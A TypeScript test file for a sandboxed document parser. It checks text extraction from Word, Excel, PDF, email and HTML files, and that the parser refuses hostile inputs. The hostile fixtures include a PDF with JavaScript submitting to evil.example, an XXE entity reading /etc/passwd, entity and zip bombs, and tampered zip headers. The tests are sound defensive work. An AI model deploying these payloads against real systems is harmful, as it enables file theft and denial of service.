import { deflateRawSync } from 'node:zlib';
import { PDFDocument, PDFName, PDFString, StandardFonts } from '@cantoo/pdf-lib';
import { strToU8, zipSync } from 'fflate';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { CagedWorker, ParsedDocument } from '../../cage/worker/port.ts';
import { docx, paragraph, run, wordPart, xlsx } from './documents.ts';
import { type Bench, openBench } from './setup.ts';

let bench: Bench;
let worker: CagedWorker;

beforeAll(async () => {
  bench = await openBench();
  worker = await bench.worker();
});
afterAll(() => bench.dispose());

function parse(
  name: string,
  content: string | Uint8Array,
  maxChars = 1_000_000,
): Promise<ParsedDocument> {
  return worker.call('doc.parse', { path: bench.file(`data/input/${name}`, content), maxChars });
}

async function pdf(
  pages: readonly string[],
  change?: (doc: PDFDocument) => void,
): Promise<Uint8Array> {
  const doc = await PDFDocument.create();
  const font = await doc.embedFont(StandardFonts.Helvetica);
  for (const text of pages) {
    const page = doc.addPage([400, 400]);
    text.split('\n').forEach((line, index) => {
      page.drawText(line, { x: 20, y: 360 - index * 20, size: 12, font });
    });
  }
  change?.(doc);
  return await doc.save();
}

describe('documents', () => {
  it('reads text, markdown, csv and json as they are', async () => {
    for (const [name, kind] of [
      ['a.txt', 'txt'],
      ['a.md', 'md'],
      ['a.csv', 'csv'],
      ['a.json', 'json'],
    ] as const) {
      expect(await parse(name, '{"a": "b,c"}\n')).toEqual({
        kind,
        text: '{"a": "b,c"}\n',
        sections: [{ at: 0, kind: 'text', n: 1 }],
        units: [],
        truncated: false,
        warnings: [],
      });
    }
  });

  it('cuts at maxChars, never inside a character, and says so', async () => {
    expect(await parse('cut.txt', 'ab😀cd', 3)).toMatchObject({ text: 'ab', truncated: true });
    expect(await parse('cut.txt', 'ab😀cd', 4)).toMatchObject({ text: 'ab😀', truncated: true });
    expect(await parse('cut.txt', 'ab😀cd', 6)).toMatchObject({ text: 'ab😀cd', truncated: false });
  });

  it('reads a Word file with split runs, tables, notes, headers, text boxes and comments', async () => {
    const box = `<w:r><w:pict><w:txbxContent>${paragraph(run('In a box'))}</w:txbxContent></w:pict></w:r>`;
    const table = `<w:tbl><w:tr><w:tc>${paragraph(run('A1'))}</w:tc><w:tc>${paragraph(run('B1'))}</w:tc></w:tr></w:tbl>`;
    const body =
      paragraph(run('536-22') + run('-8145', '<w:rPr><w:b/></w:rPr>')) +
      paragraph(`${run('a')}<w:r><w:tab/></w:r>${run('b')}<w:r><w:br/></w:r>${run('c &amp; d')}`) +
      paragraph(
        `<w:del w:author="Eve">${run('deleted')}<w:r><w:delText>gone</w:delText></w:r></w:del><w:ins>${run('kept')}</w:ins>`,
      ) +
      paragraph(run('hidden', '<w:rPr><w:vanish/></w:rPr>')) +
      paragraph(`<w:r><w:instrText>HYPERLINK "mailto:x@y.example"</w:instrText></w:r>`) +
      table +
      paragraph(box);
    const file = docx(body, {
      'word/header1.xml': wordPart('hdr', paragraph(run('Header'))),
      'word/footnotes.xml': wordPart('footnotes', paragraph(run('Note'))),
      'word/comments.xml': wordPart('comments', paragraph(run('Comment'))),
    });
    const parsed = await parse('a.docx', file);
    expect(parsed.text).toBe(
      '536-22-8145\na\tb\nc & d\nkept\nhidden\n\nA1\tB1\t\nIn a box\n\nNote\nHeader\nComment\n',
    );
    expect(parsed.warnings.join(' ')).toContain('Comments');
    expect(
      parsed.sections.map(({ at, kind, n, name }) => [
        parsed.text.slice(at, at + 4),
        kind,
        n,
        name,
      ]),
    ).toEqual([
      ['536-', 'page', 1, undefined],
      ['Note', 'part', 1, 'footnotes'],
      ['Head', 'part', 1, 'header'],
      ['Comm', 'part', 1, 'comments'],
    ]);
  });

  it('reads a workbook: shared and inline text, numbers, dates, hidden sheets, comments', async () => {
    const file = xlsx(
      [
        {
          name: 'People',
          rows: [
            '<c r="A1" t="s"><v>0</v></c><c r="C1" t="inlineStr"><is><t>in</t><r><t>line</t></r></is></c>',
            '<c r="A2"><v>42.5</v></c><c r="B2" s="1"><v>21258</v></c><c r="C2" t="b"><v>1</v></c>',
          ],
        },
        {
          name: 'Secret',
          state: 'veryHidden',
          rows: ['<c r="A1" t="str"><f>"a"&amp;"b"</f><v>ab</v></c>'],
        },
      ],
      ['Ann Example'],
      {
        'xl/comments1.xml':
          '<comments><comment><text><r><t>Call Bob</t></r></text></comment></comments>',
      },
    );
    const parsed = await parse('a.xlsx', file);
    expect(parsed.text).toBe(
      'People\nAnn Example\t\tinline\t\n42.5\t1958-03-14\tTRUE\t\nSecret\nab\t\nCall Bob\n',
    );
    expect(parsed.warnings.join(' ')).toContain('hidden sheets');
  });

  it('reads a PDF page by page with notes and form values; nothing in it runs', async () => {
    const file = await pdf(['First page\nSSN 536-22-8145', 'Second', ''], (doc) => {
      doc.addJavaScript('evil', 'app.alert("x"); this.submitForm("https://evil.example")');
      doc.catalog.set(
        PDFName.of('OpenAction'),
        doc.context.obj({ S: 'URI', URI: PDFString.of('https://evil.example') }),
      );
      doc.getForm().createTextField('name').setText('Form Person');
      doc.getForm().getTextField('name').addToPage(doc.getPage(1), { x: 10, y: 10 });
    });
    const parsed = await parse('a.pdf', file);
    expect(parsed.text).toContain('First page\nSSN 536-22-8145');
    expect(parsed.text).toContain('Form Person');
    expect(parsed.sections).toHaveLength(3);
    expect(parsed.text.slice(parsed.sections[1]?.at)).toMatch(/^Second/);
    expect(parsed.warnings.join(' ')).toContain('no text');
    expect(parsed.text).not.toContain('evil');
  });

  it('reads a PDF whose text needs a predefined character map', async () => {
    const objects = [
      '<< /Type /Catalog /Pages 2 0 R >>',
      '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
      '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 300 300] /Contents 6 0 R /Resources << /Font << /F1 4 0 R >> >> >>',
      '<< /Type /Font /Subtype /Type0 /BaseFont /HeiseiMin-W3 /Encoding /90ms-RKSJ-H /DescendantFonts [5 0 R] >>',
      '<< /Type /Font /Subtype /CIDFontType0 /BaseFont /HeiseiMin-W3 /CIDSystemInfo << /Registry (Adobe) /Ordering (Japan1) /Supplement 2 >> /FontDescriptor 7 0 R >>',
      // Shift-JIS for 日本.
      '<< /Length 47 >>\nstream\nBT /F1 20 Tf 40 200 Td <93FA967B> Tj ET\n\nendstream',
      '<< /Type /FontDescriptor /FontName /HeiseiMin-W3 /Flags 4 /FontBBox [0 0 1000 1000] /ItalicAngle 0 /Ascent 800 /Descent -200 /CapHeight 700 /StemV 80 >>',
    ];
    const body = objects.map((object, index) => `${index + 1} 0 obj\n${object}\nendobj\n`).join('');
    const parsed = await parse(
      'jp.pdf',
      `%PDF-1.4\n${body}trailer << /Root 1 0 R /Size 8 >>\n%%EOF\n`,
    );
    expect(parsed.text.trim()).toBe('日本');
    expect(parsed.warnings).toEqual([]);
  });

  it('reads mail with encoded headers, both bodies and the names of attachments', async () => {
    const mail = [
      'From: =?utf-8?q?J=C3=B6rg?= <joerg@example.org>',
      'To: "Ann, B." <ann@example.org>',
      'Subject: =?utf-8?b?R3LDvMOfZQ==?=',
      'MIME-Version: 1.0',
      'Content-Type: multipart/mixed; boundary=x',
      '',
      '--x',
      'Content-Type: text/plain; charset=utf-8',
      'Content-Transfer-Encoding: base64',
      '',
      Buffer.from('Mein Körper').toString('base64'),
      '--x',
      'Content-Type: application/pdf; name=claim.pdf',
      'Content-Disposition: attachment; filename=claim.pdf',
      '',
      'x',
      '--x--',
      '',
    ].join('\r\n');
    const parsed = await parse('a.eml', mail);
    expect(parsed.text).toContain('From: Jörg <joerg@example.org>');
    expect(parsed.text).toContain('Subject: Grüße');
    expect(parsed.text).toContain('Mein Körper');
    expect(parsed.text).toContain('Attachment: claim.pdf');
  });

  it('reads HTML without scripts and styles, with contacts that stand in attributes', async () => {
    const parsed = await parse(
      'a.html',
      '<!doctype html><html><head><title>T</title><style>x{}</style><script>evil("<p>")</script></head>' +
        '<body><p>Ann &amp; Bob&nbsp;&#x263A;<a href="mailto:a@b.example" title="5 < 6 > 4">mail</a>' +
        '<!-- hidden <b>--><br>a<td>b<script>unclosed',
    );
    expect(parsed.text).toBe(
      'T\n\nAnn & Bob\u00a0☺ mailto:a@b.example 5 < 6 > 4 mail\na\tb'.replace('\n\n', '\n'),
    );
  });

  it('goes by contents when name and contents differ', async () => {
    expect((await parse('really-a-pdf.txt', await pdf(['Inside']))).kind).toBe('pdf');
    expect((await parse('really-a-docx.txt', docx(paragraph(run('x'))))).kind).toBe('docx');
    await expect(parse('old.docx', Buffer.from('d0cf11e0a1b11ae1', 'hex'))).rejects.toMatchObject({
      code: 'UNSUPPORTED',
    });
    await expect(parse('a.exe', 'MZ')).rejects.toMatchObject({ code: 'UNSUPPORTED' });
  });
});

describe('hostile documents', () => {
  const withXml = (xml: string) => zipSync({ 'word/document.xml': strToU8(xml) });

  it('refuses document types: entity bombs and outside files', async () => {
    const lol = '<!DOCTYPE x [<!ENTITY a "ha"><!ENTITY b "&a;&a;">]><x>&b;</x>';
    const xxe = '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><w:t>&a;</w:t>';
    for (const xml of [
      lol,
      xxe,
      '<w:body><w:t>&unknown;</w:t></w:body>',
      '<w:t>&#xFFFFFFF;</w:t>',
    ]) {
      await expect(parse('xxe.docx', withXml(xml))).rejects.toMatchObject({
        code: 'INPUT_INVALID',
      });
    }
  });

  it('refuses XML that is too deep, cut off, or not balanced', async () => {
    for (const xml of [
      '<a>'.repeat(5000),
      '<a><b></a></b>',
      '<a',
      '<a b="',
      '<!-- ',
      '<![CDATA[',
      '</a>',
      '<>',
    ]) {
      await expect(parse('deep.docx', withXml(xml))).rejects.toMatchObject({
        code: 'INPUT_INVALID',
      });
    }
  });

  it('refuses an archive that unpacks to far more than it is', async () => {
    const bomb = zipSync({ 'word/document.xml': new Uint8Array(80 * 1024 * 1024) });
    expect(bomb.length).toBeLessThan(1024 * 1024);
    await expect(parse('bomb.docx', bomb)).rejects.toMatchObject({ code: 'TOO_LARGE' });
    const lying = Buffer.from(zipSync({ 'word/document.xml': new Uint8Array(1024 * 1024) }));
    const central = lying.indexOf(Buffer.from('504b0102', 'hex'));
    lying.writeUInt32LE(10, central + 24);
    await expect(parse('lying.docx', lying)).rejects.toMatchObject({ code: 'TOO_LARGE' });
  });

  it('refuses archives that two readers would see differently', async () => {
    const good = Buffer.from(docx(paragraph(run('x'))));
    const central = good.indexOf(Buffer.from('504b0102', 'hex'));
    const change = (edit: (copy: Buffer) => void) => {
      const copy = Buffer.from(good);
      edit(copy);
      return copy;
    };
    const broken = [
      change((copy) => copy.writeUInt16LE(1, central + 8)),
      change((copy) => copy.writeUInt16LE(99, central + 10)),
      change((copy) => copy.writeUInt32LE(0x7fffffff, central + 42)),
      change((copy) => copy.writeUInt32LE(0x7fffffff, central + 20)),
      change((copy) => copy.write('X', central + 46)),
      change((copy) => copy.writeUInt32LE(0xffffffff, central + 24)),
      change((copy) => copy.writeUInt16LE(9999, copy.length - 12)),
      good.subarray(0, good.length - 30),
      Buffer.from('PK\u0003\u0004'),
    ];
    for (const bytes of broken) {
      await expect(parse('broken.docx', bytes)).rejects.toMatchObject({ code: 'INPUT_INVALID' });
    }
    expect((await parse('good.docx', good)).text).toBe('x\n');
  });

  it('refuses twice-named and overlapping entries', async () => {
    const data = deflateRawSync(Buffer.from('<w:document><w:body/></w:document>'));
    const name = Buffer.from('word/document.xml');
    const local = Buffer.alloc(30);
    local.writeUInt32LE(0x04034b50, 0);
    local.writeUInt16LE(8, 8);
    local.writeUInt32LE(data.length, 18);
    local.writeUInt32LE(34, 22);
    local.writeUInt16LE(name.length, 26);
    const entry = Buffer.alloc(46);
    entry.writeUInt32LE(0x02014b50, 0);
    entry.writeUInt16LE(8, 10);
    entry.writeUInt32LE(data.length, 20);
    entry.writeUInt32LE(34, 24);
    entry.writeUInt16LE(name.length, 28);
    const build = (count: number) => {
      const head = Buffer.concat([local, name, data]);
      const directory = Buffer.concat(
        Array.from({ length: count }, () => Buffer.concat([entry, name])),
      );
      const end = Buffer.alloc(22);
      end.writeUInt32LE(0x06054b50, 0);
      end.writeUInt16LE(count, 8);
      end.writeUInt16LE(count, 10);
      end.writeUInt32LE(directory.length, 12);
      end.writeUInt32LE(head.length, 16);
      return Buffer.concat([head, directory, end]);
    };
    expect((await parse('one.docx', build(1))).text).toBe('');
    await expect(parse('two.docx', build(2))).rejects.toMatchObject({ code: 'INPUT_INVALID' });
  });

  it('refuses damaged PDFs and goes on working afterwards', async () => {
    const good = Buffer.from(await pdf(['Fine']));
    for (const bytes of [Buffer.from('%PDF-1.7\ngarbage'), good.subarray(0, 200)]) {
      await expect(parse('bad.pdf', bytes)).rejects.toMatchObject({ code: 'INPUT_INVALID' });
    }
    expect((await parse('good.pdf', good)).text).toContain('Fine');
  });

  it('bounds a workbook that puts one cell at the far end', async () => {
    const parsed = await parse(
      'far.xlsx',
      xlsx([{ name: 'S', rows: ['<c r="XFD1"><v>1</v></c>'] }]),
    );
    expect(parsed.text.length).toBeLessThan(2000);
  });
});
